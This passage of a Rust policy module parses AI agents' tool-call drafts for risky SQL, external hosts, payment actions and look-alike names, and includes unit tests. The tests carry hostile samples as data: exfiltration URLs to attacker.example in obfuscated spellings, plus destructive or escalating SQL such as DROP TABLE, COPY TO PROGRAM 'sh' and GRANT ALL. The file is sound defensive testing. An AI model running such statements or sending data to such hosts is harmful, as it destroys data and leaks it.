    "dense_rank",
    "every",
    "first_value",
    "floor",
    "greatest",
    "hour",
    "if",
    "ifnull",
    "initcap",
    "isnull",
    "lag",
    "last_value",
    "lead",
    "least",
    "left",
    "length",
    "localtime",
    "localtimestamp",
    "lower",
    "lpad",
    "ltrim",
    "max",
    "median",
    "min",
    "minute",
    "mod",
    "month",
    "now",
    "nth_value",
    "ntile",
    "nullif",
    "nvl",
    "percent_rank",
    "percentile_cont",
    "percentile_disc",
    "power",
    "quarter",
    "rank",
    "replace",
    "reverse",
    "right",
    "round",
    "row_number",
    "rpad",
    "rtrim",
    "second",
    "sign",
    "split_part",
    "sqrt",
    "stddev",
    "stddev_pop",
    "stddev_samp",
    "string_agg",
    "strpos",
    "substr",
    "substring",
    "sum",
    "to_char",
    "to_date",
    "to_number",
    "to_timestamp",
    "trim",
    "trunc",
    "upper",
    "var_pop",
    "var_samp",
    "variance",
    "week",
    "year",
];

/// Whether a key names SQL (`sql`, `SqlText`, `statement`, `ddl`, …): a string under it whose first
/// word is any SQL keyword is read as SQL even when nothing else says so (`SHOW …`, `RESET …`).
fn sql_key(key: &str) -> bool {
    let key = normal_name(key);
    key.contains("sql") || ["statement", "statements", "stmt", "stmts", "ddl", "dml"].contains(&key.as_str())
}

/// Whether `word` (any case) is one of `sqlparser`'s keywords.
fn sql_keyword(word: &str) -> bool {
    sqlparser::keywords::ALL_KEYWORDS.contains(&word.to_ascii_uppercase().as_str())
}

/// `s` after leading spaces, punctuation and comments. A MySQL executable comment (`/*! … */`) is
/// code, not a comment: it stops here.
fn skip_comments(s: &str) -> &str {
    let mut rest = s;
    loop {
        rest = rest.trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != '/');
        if rest.starts_with("/*!") {
            return rest;
        }
        if let Some(r) = rest.strip_prefix("--") {
            rest = r.split_once('\n').map(|(_, r)| r).unwrap_or("");
        } else if let Some(r) = rest.strip_prefix("/*") {
            rest = r.split_once("*/").map(|(_, r)| r).unwrap_or("");
        } else if rest.starts_with(['-', '/']) {
            rest = &rest[1..];
        } else {
            return rest;
        }
    }
}

/// The first word of `s`, lower case (letters, digits and `_`).
fn first_word(s: &str) -> String {
    s.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect::<String>().to_ascii_lowercase()
}

/// A statement keyword of `SQL_STARTS` at the start of `rest`, with the structure of SQL after it:
/// a second structure word (`FROM`, `TABLE`, `SET`, …), `ON … TO` for grants, `AS (` for `WITH`.
fn statement_shape(first: &str, rest: &str) -> bool {
    if !SQL_STARTS.contains(&first) {
        return false;
    }
    if SQL_ALWAYS.contains(&first) {
        return true;
    }
    let lower = rest.to_ascii_lowercase();
    let words: Vec<&str> =
        lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').filter(|w| !w.is_empty()).collect();
    match first {
        // `GRANT … ON … TO …`, `REVOKE … ON … FROM …`; a role grant (`GRANT admin TO bob`) has no `ON`
        // and is taken when it parses, so "grant Kim access to the board" stays text.
        "grant" | "revoke" => {
            (words.contains(&"to") || words.contains(&"from"))
                && (words.contains(&"on") || parse_sql(rest).is_some())
        }
        // A common table expression: `WITH name AS (`.
        "with" => {
            let squeezed: String = lower.split_whitespace().collect::<Vec<_>>().join(" ");
            squeezed.contains(" as (") || squeezed.contains(" as(")
        }
        _ => words.iter().skip(1).any(|w| SQL_STRUCTURE.contains(w)),
    }
}

/// Whether a string looks like SQL (and so must parse as SQL the policy understands, or be the
/// fact `unparseable`). Free text such as "Update the wiki" is not SQL; any of these is:
///
/// - a MySQL executable comment `/*! … */` anywhere (MySQL runs what it holds);
/// - a statement keyword with SQL structure after it (`statement_shape`), or one that parses;
/// - a vendor command (`SQL_ALWAYS`: `SHUTDOWN`, `CHECKPOINT`, `WAITFOR`, …);
/// - any other SQL keyword (`sqlparser`'s list: `START`, `SHOW`, `DO`, `IF`, `PREPARE`, …) at the
///   start when the string parses as SQL, when a statement with SQL structure follows anywhere in it
///   (`IF 1=1 DROP TABLE t`, `DO $$ … EXECUTE 'DROP TABLE t' … $$`), or when it sits under a key
///   that names SQL (`sql_key`);
/// - a string with any of the above after a `;` (`SHOW TABLES; DROP …`, `1; DROP …`).
///
/// Reading too much as SQL is the safe side: what looks like SQL and is not understood is risky.
fn looks_like_sql(s: &str, under_sql_key: bool) -> bool {
    if s.contains("/*!") {
        return true;
    }
    let rest = skip_comments(s);
    let first = first_word(rest);
    if SQL_ALWAYS.contains(&first.as_str()) || statement_shape(&first, rest) {
        return true;
    }
    if !first.is_empty() && first.chars().all(|c| c.is_ascii_alphabetic() || c == '_') && sql_keyword(&first)
    {
        // A lone keyword ("select", "json") is a value, not a statement, unless under a SQL key.
        let more = rest[first.len()..].chars().any(|c| c.is_ascii_alphanumeric());
        if under_sql_key || (more && parse_sql(s).is_some_and(|st| st.iter().any(|st| !inert(st)))) {
            return true;
        }
        let word_char = |c: char| c.is_ascii_alphanumeric() || c == '_';
        let mut previous = ' ';
        for (at, c) in rest.char_indices() {
            if word_char(c) && !word_char(previous) {
                let here = &rest[at..];
                if statement_shape(&first_word(here), here) {
                    return true;
                }
            }
            previous = c;
        }
    }
    s.split(';').skip(1).any(|segment| looks_like_sql(segment, false))
}

/// Statements that change and reveal nothing on their own (`SHOW …`, `USE …`, transaction control):
/// everyday text parses as them ("Show me the roadmap", "release notes"), so parsing as one of them
/// alone does not make a string SQL (under a SQL key, or beside other statements, they still count).
fn inert(st: &Statement) -> bool {
    matches!(statement_kind(st).0, "transaction")
        || matches!(st, Statement::Use(_))
        || format!("{st:?}").starts_with("Show")
}

/// The statements of `s` in every dialect that parses it (generic, PostgreSQL, MySQL, MS SQL): a
/// statement one dialect reads and another does not still counts. `None` when no dialect parses it.
fn parse_sql(s: &str) -> Option<Vec<Statement>> {
    let dialects: [&dyn Dialect; 4] =
        [&GenericDialect {}, &PostgreSqlDialect {}, &MySqlDialect {}, &MsSqlDialect {}];
    let parsed: Vec<Vec<Statement>> =
        dialects.iter().filter_map(|d| sqlparser::parser::Parser::parse_sql(*d, s).ok()).collect();
    (!parsed.is_empty()).then(|| parsed.into_iter().flatten().collect())
}

/// Finds what makes a query more than a read: calls of functions outside `PURE_FUNCTIONS`, table
/// functions and `SELECT … INTO`.
#[derive(Default)]
struct Impurity {
    found: bool,
}

impl sqlparser::ast::Visitor for Impurity {
    type Break = ();

    fn pre_visit_expr(&mut self, expr: &sqlparser::ast::Expr) -> ControlFlow<()> {
        if let sqlparser::ast::Expr::Function(f) = expr {
            let name = f.name.to_string().to_ascii_lowercase();
            if !PURE_FUNCTIONS.contains(&name.as_str()) {
                self.found = true;
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &sqlparser::ast::TableFactor) -> ControlFlow<()> {
        use sqlparser::ast::TableFactor;
        match factor {
            TableFactor::Table { args, .. } => self.found |= args.is_some(),
            TableFactor::Derived { .. } | TableFactor::NestedJoin { .. } | TableFactor::UNNEST { .. } => {}
            _ => self.found = true,
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &sqlparser::ast::Select) -> ControlFlow<()> {
        self.found |= select.into.is_some();
        ControlFlow::Continue(())
    }
}

/// Add what a string says as SQL, if it is SQL; roles a `GRANT` hands out go to `roles`.
fn sql_facts(s: &str, under_sql_key: bool, facts: &mut SqlFacts, roles: &mut BTreeSet<String>) {
    if !looks_like_sql(s, under_sql_key) {
        return;
    }
    let statements = match parse_sql(s) {
        Some(statements) if !statements.is_empty() && !s.contains("/*!") => statements,
        // Nothing the policy can read: the worst it could be.
        _ => {
            facts.unparseable = true;
            facts.data_change = true;
            return;
        }
    };
    let _ = visit_statements(&statements, |st| {
        let (kind, schema) = statement_kind(st);
        facts.kinds.insert(kind.to_string());
        facts.schema_change |= schema;
        facts.data_change |= !matches!(kind, "select" | "explain" | "transaction");
        facts.risky |= kind == "other";
        if let Statement::Drop { names, .. } = st {
            facts.objects.extend(names.iter().map(|n| n.to_string().to_lowercase()));
        }
        if let Statement::GrantRole(g) = st {
            roles.extend(g.roles.iter().map(|r| normal_name(&r.value)));
        }
        ControlFlow::<()>::Continue(())
    });
    let mut impurity = Impurity::default();
    let _ = sqlparser::ast::Visit::visit(&statements, &mut impurity);
    if impurity.found {
        facts.risky = true;
        facts.data_change = true;
    }
    let _ = visit_relations(&statements, |name| {
        facts.objects.insert(name.to_string().to_lowercase());
        ControlFlow::<()>::Continue(())
    });
}

/// The kind of one statement and whether it changes schema. Kinds the policy understands: select
/// (a query), explain (of a statement, which is judged by itself), transaction (`BEGIN`, `COMMIT`,
/// `SAVEPOINT`, …: neutral), insert, update, delete, merge, truncate, drop, alter, create, grant,
/// revoke; everything else is `other`, which is risky.
fn statement_kind(st: &Statement) -> (&'static str, bool) {
    match st {
        Statement::Query(_) => ("select", false),
        Statement::Explain { .. } => ("explain", false),
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => ("transaction", false),
        Statement::Insert(_) => ("insert", false),
        Statement::Update(_) => ("update", false),
        Statement::Delete(_) => ("delete", false),
        Statement::Merge(_) => ("merge", false),
        Statement::Truncate(_) => ("truncate", true),
        Statement::Drop { object_type, .. } => {
            ("drop", !matches!(object_type, ObjectType::Role | ObjectType::User | ObjectType::Group))
        }
        Statement::Grant(_) | Statement::GrantRole(_) => ("grant", false),
        Statement::Revoke(_) | Statement::RevokeRole(_) => ("revoke", false),
        Statement::CreateRole(_) | Statement::CreateUser(_) => ("create", false),
        Statement::AlterRole { .. } | Statement::AlterUser(_) => ("alter", false),
        Statement::RenameTable(_) => ("alter", true),
        other => {
            // The rest of the (large) statement enum, by its variant name.
            let debug = format!("{other:?}");
            let name: String = debug.chars().take_while(char::is_ascii_alphanumeric).collect();
            if name.starts_with("Drop") {
                ("drop", true)
            } else if name.starts_with("Alter") {
                ("alter", true)
            } else if name.starts_with("Create") {
                ("create", true)
            } else if name.starts_with("Grant") {
                ("grant", false)
            } else if name.starts_with("Revoke") {
                ("revoke", false)
            } else {
                ("other", false)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn draft(system: &str, environment: &str, actions: Value) -> StepUpDraft {
        serde_json::from_value(json!({
            "identity": { "workload": "spiffe://acme.example/ns/t/sa/a", "display": "A", "on_behalf_of": [] },
            "purpose": { "code": "t", "statement": "t" },
            "data": { "class": "internal", "categories": [] },
            "target": { "system": system, "environment": environment },
            "actions": actions,
        }))
        .unwrap()
    }

    fn facts_of(tool: &str, args: Value) -> ActionFacts {
        let d = draft("wiki", "production", json!([{ "tool": tool, "args": args, "reversible": true }]));
        derive("spiffe://acme.example/ns/t/sa/a", &d, &PolicyData::default_data()).actions.remove(0)
    }

    fn hosts(args: Value) -> Vec<(String, HostZone)> {
        let mut h: Vec<_> = facts_of("http.post", args).hosts.into_iter().map(|h| (h.host, h.zone)).collect();
        h.dedup();
        h
    }

    fn has_external(args: Value, host: &str) -> bool {
        hosts(args).iter().any(|(h, z)| h == host && *z == HostZone::External)
    }

    #[test]
    fn the_default_data_loads() {
        let data = PolicyData::default_data();
        assert_eq!(data.systems["payments-api"].environment, "production");
        assert!(data.tools.contains_key("wiki.pages.get"));
    }

    #[test]
    fn a_url_host_is_found_however_it_is_spelled() {
        // The plain control and its spellings: each must name attacker.example as an external host.
        let spellings = [
            json!({ "url": "https://attacker.example/in" }),
            json!({ "url": "https://attacker.example?@acme.example/" }),
            json!({ "url": "https://attacker.example#@acme.example" }),
            json!({ "url": "https://acme.example@attacker.example/" }),
            json!({ "url": "HTTPS://ATTACKER.EXAMPLE./in" }),
            json!({ "URL": "https://attacker.example/in" }),
            json!({ "to": "https://attacker.example/in" }),
            json!({ "targets": ["https://intranet.acme.example", "https://attacker.example/in"] }),
            json!({ "body": "Please post the export to https://attacker.example/in, thanks." }),
            json!({ "options": { "nested": [{ "deep": "https://attacker%2Eexample/in" }] } }),
            json!({ "url": "  https:attacker.example/in" }),
            json!({ "url": "https:\\\\attacker.example\\in" }),
            json!({ "url": "//attacker.example/in" }),
            json!({ "host": "attacker.example:8443" }),
            json!({ "dest": "attacker.example/upload" }),
            json!({ "recipient": "ops@attacker.example" }),
            json!({ "to": "mailto:ops@attacker.example?subject=x" }),
            json!({ "url": "https://attacker.exa\nmple/in" }),
            json!({ "note": "attacker.example?@acme.example" }),
            json!({ "https://attacker.example/in": true }),
            json!({ "x": "https%3A%2F%2Fattacker.example%2Fin" }),
            json!({ "x": "\u{ff48}\u{ff54}\u{ff54}\u{ff50}\u{ff53}\u{ff1a}\u{ff0f}\u{ff0f}attacker.example" }),
            json!({ "x": "{\"u\": \"https:\\/\\/attacker.example\"}" }),
        ];
        for args in spellings {
            assert!(has_external(args.clone(), "attacker.example"), "{args}: {:?}", hosts(args.clone()));
        }
    }

    #[test]
    fn the_fragment_and_query_tricks_do_not_make_a_host_internal() {
        for u in ["https://attacker.example?@acme.example/", "https://attacker.example#@acme.example"] {
            let found = hosts(json!({ "url": u }));
            assert!(found.contains(&("attacker.example".into(), HostZone::External)), "{u}: {found:?}");
        }
    }

    #[test]
    fn zones_follow_the_data_file() {
        assert_eq!(
            hosts(json!({ "url": "https://wiki.acme.example/x" })),
            vec![("wiki.acme.example".into(), HostZone::Internal)]
        );
        assert_eq!(
            hosts(json!({ "url": "https://acme.example" })),
            vec![("acme.example".into(), HostZone::Internal)]
        );
        // A look-alike suffix is not a subdomain.
        assert_eq!(
            hosts(json!({ "url": "https://evilacme.example" })),
            vec![("evilacme.example".into(), HostZone::External)]
        );
        assert_eq!(
            hosts(json!({ "destination": "sftp://acme@sftp.payroll-partner.example:22/in" })),
            vec![("sftp.payroll-partner.example".into(), HostZone::Approved)]
        );
        // IP literals are hosts, and loopback or private addresses are not internal unless listed.
        assert_eq!(
            hosts(json!({ "url": "http://127.0.0.1:8080/x" })),
            vec![("127.0.0.1".into(), HostZone::External)]
        );
        assert_eq!(
            hosts(json!({ "url": "http://0x7f000001/" })),
            vec![("127.0.0.1".into(), HostZone::External)]
        );
        assert_eq!(hosts(json!({ "url": "http://[::1]/" })), vec![("[::1]".into(), HostZone::External)]);
        assert_eq!(hosts(json!({ "ip": "10.0.0.8" })), vec![("10.0.0.8".into(), HostZone::External)]);
        // Unicode hosts come out as punycode; fullwidth dots are dots.
        assert!(has_external(json!({ "url": "https://attacker\u{3002}example/" }), "attacker.example"));
        assert!(has_external(json!({ "url": "https://bücher.example/" }), "xn--bcher-kva.example"));
    }

    #[test]
    fn file_names_amounts_and_versions_are_not_hosts() {
        assert!(hosts(
            json!({ "file": "report.csv", "amount": "12450.00", "version": "2.14.3", "v": "v1.2" })
        )
        .is_empty());
        // With a path or port, a file-like name is a host after all.
        assert!(has_external(json!({ "to": "exfil.zip/upload" }), "exfil.zip"));
    }

    #[test]
    fn sql_is_parsed_under_any_key_and_spelling() {
        let spellings = [
            json!({ "sql": "DROP TABLE orders;" }),
            json!({ "SQL": "DROP TABLE orders;" }),
            json!({ "q": "drop table orders" }),
            json!({ "statement": "DROP/**/TABLE orders" }),
            json!({ "query": "/* maintenance */ DROP TABLE orders" }),
            json!({ "query": "-- cleanup\nDROP TABLE orders" }),
            json!({ "query": "SELECT 1;\nDROP TABLE orders; --" }),
            json!({ "batch": ["SELECT 1", "DROP TABLE IF EXISTS orders CASCADE"] }),
            json!({ "job": { "steps": [{ "Statement": "dRoP tAbLe orders" }] } }),
            json!({ "sql": "  \n\tDROP\n  TABLE\n\torders" }),
            json!({ "sql": "EXPLAIN DROP TABLE orders" }),
            json!({ "sql": "TRUNCATE TABLE orders" }),
            json!({ "sql": "ALTER TABLE orders DROP COLUMN total" }),
        ];
        for args in spellings {
            let sql = facts_of("warehouse.query", args.clone()).sql;
            assert!(sql.schema_change && sql.data_change && !sql.unparseable, "{args}: {sql:?}");
            assert!(sql.objects.contains("orders"), "{args}: {sql:?}");
        }
    }

    #[test]
    fn reads_mutations_and_garbage() {
        let read = facts_of("warehouse.query", json!({ "sql": "SELECT a FROM t WHERE b = 1" })).sql;
        assert_eq!(read.kinds, BTreeSet::from(["select".to_string()]));
        assert!(!read.data_change && !read.schema_change && !read.unparseable);
        let cte =
            facts_of("x", json!({ "sql": "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d" })).sql;
        assert!(cte.data_change, "{cte:?}");
        let grant = facts_of("x", json!({ "sql": "GRANT ALL PRIVILEGES ON t TO mallory" })).sql;
        assert!(grant.kinds.contains("grant"), "{grant:?}");
        // A role grant has no ON; its roles are role values like those under a "role" key.
        let role_grant = facts_of("x", json!({ "sql": "GRANT admin TO mallory" }));
        assert!(role_grant.sql.kinds.contains("grant"), "{role_grant:?}");
        assert!(role_grant.roles.contains("admin"), "{role_grant:?}");
        let text = facts_of("x", json!({ "note": "Grant Kim access to the board" })).sql;
        assert_eq!(text, SqlFacts::default(), "free text is not SQL");
        let garbage = facts_of("x", json!({ "sql": "DROP TABLE orders WITH GARBAGE ((( " })).sql;
        assert!(garbage.unparseable, "{garbage:?}");
        // Free text that merely starts with a verb is not SQL.
        let prose = facts_of("x", json!({ "summary": "Update the runbook", "n": "select" })).sql;
        assert_eq!(prose, SqlFacts::default());
    }

    #[test]
    fn only_plain_queries_with_pure_functions_are_reads() {
        for read in [
            "SELECT a FROM t WHERE b = 1",
            "EXPLAIN SELECT count(*) FROM t",
            "WITH x AS (SELECT lower(a) AS a FROM t) SELECT a, count(*) FROM x GROUP BY a",
            "SELECT date_trunc('week', created_at), sum(amount), coalesce(max(b), 0) FROM t GROUP BY 1",
            "BEGIN; SELECT 1; COMMIT;",
        ] {
            let sql = facts_of("warehouse.query", json!({ "sql": read })).sql;
            assert!(
                !sql.data_change && !sql.schema_change && !sql.unparseable && !sql.risky,
                "{read}: {sql:?}"
            );
        }
        for risky in [
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "SELECT dblink_exec('host=x', 'DROP TABLE t')",
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            "SELECT * INTO t2 FROM t",
            "COPY t TO PROGRAM 'sh'",
            "SET search_path = evil",
            "SHOW TABLES",
            "CALL p()",
            "PREPARE s AS SELECT 1; EXECUTE s",
        ] {
            let sql = facts_of("warehouse.query", json!({ "sql": risky })).sql;
            assert!(sql.risky || sql.unparseable, "{risky}: {sql:?}");
            assert!(sql.data_change, "{risky}: {sql:?}");
        }
        let wrapped = facts_of("warehouse.query", json!({ "body": "{\"q\": \"DROP TABLE t\"}" })).sql;
        assert!(wrapped.schema_change, "SQL inside a JSON string: {wrapped:?}");
        for unparseable in
            ["/*!50000 DROP TABLE t */", "SHUTDOWN", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$;"]
        {
            let sql = facts_of("warehouse.query", json!({ "q": unparseable })).sql;
            assert!(sql.unparseable || sql.risky, "{unparseable}: {sql:?}");
        }
    }

    #[test]
    fn everyday_text_is_not_sql() {
        let mut wrong = Vec::new();
        for text in [
            "Update the runbook",
            "Show me the roadmap",
            "Start the weekly report",
            "Do not disturb",
            "If possible, keep it short",
            "Use the new template",
            "release notes",
            "json",
            "desc",
            "Set up the board",
            "Copy the doc to the wiki",
            "Analyze the churn numbers",
            "Call Kim about the budget",
            "Begin with the summary",
            "Reset my password please",
            "Grant Kim access to the board",
        ] {
            let sql = facts_of("wiki.pages.update", json!({ "body": text, "q": text })).sql;
            if sql.data_change || sql.schema_change || sql.unparseable || sql.risky {
                wrong.push(format!("{text}: {sql:?}"));
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn systems_and_production_markers_named_in_args() {
        let f = facts_of("postgres.execute", json!({ "dsn": "postgres://orders-db.acme.internal/orders" }));
        assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
        let f = facts_of("postgres.execute", json!({ "dsn": "host=orders-db.acme.internal dbname=orders" }));
        assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
        let f = facts_of("k8s.deployments.restart", json!({ "cluster": "k8s-prod" }));
        assert_eq!(f.named_systems, vec!["k8s-prod".to_string()]);
        assert!(f.production_marker);
        let f = facts_of("x", json!({ "database": "Orders-DB" }));
        assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
        // A plain-word system name counts only as a whole value or an internal host label.
        assert!(facts_of("x", json!({ "note": "see the wiki for mail rules" })).named_systems.is_empty());
        assert_eq!(facts_of("x", json!({ "system": "vault" })).named_systems, vec!["vault".to_string()]);
        for marked in
            [json!({ "api_key": "sk_live_1" }), json!({ "mode": "LIVE" }), json!({ "project": "acme-prod" })]
        {
            assert!(facts_of("x", marked.clone()).production_marker, "{marked}");
        }
        for unmarked in [json!({ "note": "deliver the product" }), json!({ "x": "alive" })] {
            assert!(!facts_of("x", unmarked.clone()).production_marker, "{unmarked}");
        }
    }

    #[test]
    fn every_spelling_of_a_payment_names_a_money_word() {
        let money = &PolicyData::default_data().vocabulary["money"];
        let spellings = [
            ("payments.pay", None),
            ("billing.payInvoice", None),
            ("billing.pay_invoice", None),
            ("billing.pay-invoice", None),
            ("billing/pay/invoice", None),
            ("billing:payInvoice", None),
            ("BillingPayInvoice", None),
            ("PAYMENTS.PAY", None),
            ("sendfunds", None),
            ("sendFunds", None),
            ("SEND_FUNDS", None),
            ("payinvoice", None),
            ("billing", Some("payInvoice")),
            ("billing", Some("Pay Invoice")),
            ("\u{ff50}\u{ff41}\u{ff59}.invoice", None),
            ("wireTransfer", None),
        ];
        for (tool, operation) in spellings {
            let d = draft(
                "payments-api",
                "production",
                json!([{ "tool": tool, "operation": operation, "args": {}, "reversible": false }]),
            );
            let a = derive("spiffe://acme.example/x", &d, &PolicyData::default_data()).actions.remove(0);
            let words: BTreeSet<_> = a.words.union(&a.word_parts).cloned().collect();
            assert!(words.intersection(money).next().is_some(), "{tool} {operation:?}: {words:?}");
        }
    }

    #[test]
    fn tool_names_split_into_words() {
        let words = |t: &str| name_words(t).into_iter().collect::<Vec<_>>();
        assert!(words("billing.payInvoice").contains(&"pay".to_string()));
        assert!(words("billing.payInvoice").contains(&"invoice".to_string()));
        assert!(words("sendFunds").contains(&"funds".to_string()));
        assert!(words("HTTPPost").contains(&"post".to_string()));
        assert!(words("payments_pay-now/x:y z").contains(&"pay".to_string()));
        assert!(words("ｐａｙｍｅｎｔｓ.pay").contains(&"payments".to_string()));
        for spelling in ["sendfunds", "payinvoice", "billing.payinvoice", "PAYINVOICE", "wirefunds"] {
            let f = facts_of(spelling, json!({}));
            let all: BTreeSet<_> = f.words.union(&f.word_parts).cloned().collect();
            assert!(
                all.contains("pay")
                    || all.contains("funds")
                    || all.contains("invoice")
                    || all.contains("wire"),
                "{spelling}: {all:?}"
            );
        }
        // Three-letter words only at an edge, read words never inside.
        let display = facts_of("ui.display.update", json!({}));
        assert!(!display.word_parts.contains("pay"), "{display:?}");
        assert!(!facts_of("targetwipe", json!({})).word_parts.contains("get"));
    }

    #[test]
    fn look_alikes_and_targets() {
        let d = draft(
            " Payments-API ",
            "Sandbox",
            json!([{ "tool": "\u{0440}ayments.pay", "args": {}, "reversible": true }]),
        );
        let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
        assert!(f.lookalike && f.actions[0].lookalike);
        assert_eq!(f.target.system, "payments-api");
        assert!(f.target.catalogued);
        assert_eq!(f.target.declared_environment, "sandbox");
        let d = draft("hr-db.prod", "production", json!([]));
        let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
        assert!(!f.target.catalogued);
        assert_eq!(f.target.resembles, vec!["hr-db".to_string()]);
        let d = draft(
            "wiki",
            "production",
            json!([{ "tool": "x", "target": "Payments-API.eu", "args": {}, "reversible": true }]),
        );
        let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
        assert_eq!(f.actions[0].systems, vec!["payments-api".to_string()]);
        assert!(derive(
            "spiffe://acme.example/x",
            &draft("ＨＲ_DB", "production", json!([])),
            &PolicyData::default_data()
        )
        .target
        .resembles
        .contains(&"hr-db".to_string()));
    }

    #[test]
    fn workloads_parse_as_spiffe_ids() {
        assert_eq!(
            workload_facts("spiffe://acme.example/ns/x").trust_domain.as_deref(),
            Some("acme.example")
        );
        for bad in [
            "https://acme.example/x",
            "spiffe://acme.example@evil.example/x",
            "spiffe://acme.example:1/x",
            "spiffe:acme.example",
        ] {
            assert!(!workload_facts(bad).spiffe, "{bad}");
        }
    }

    #[test]
    fn bad_data_files_are_refused() {
        assert!(PolicyData::from_json("{").is_err());
        assert!(PolicyData::from_json("[]").is_err());
        let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
        v["systems"]["Payments-API"] = json!({ "environment": "production", "class": "restricted" });
        assert!(PolicyData::from_json(&v.to_string()).is_err(), "names must be in normal form");
        let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
        v["systems"]["x"] = json!({ "environment": "production", "class": "secret" });
        assert!(PolicyData::from_json(&v.to_string()).is_err(), "unknown class");
        let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
        v.as_object_mut().unwrap().remove("vocabulary");
        assert!(PolicyData::from_json(&v.to_string()).is_err(), "missing vocabulary");
        let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
        v["internal_domain"] = json!([]);
        assert!(PolicyData::from_json(&v.to_string()).is_err(), "unknown key");
    }
}
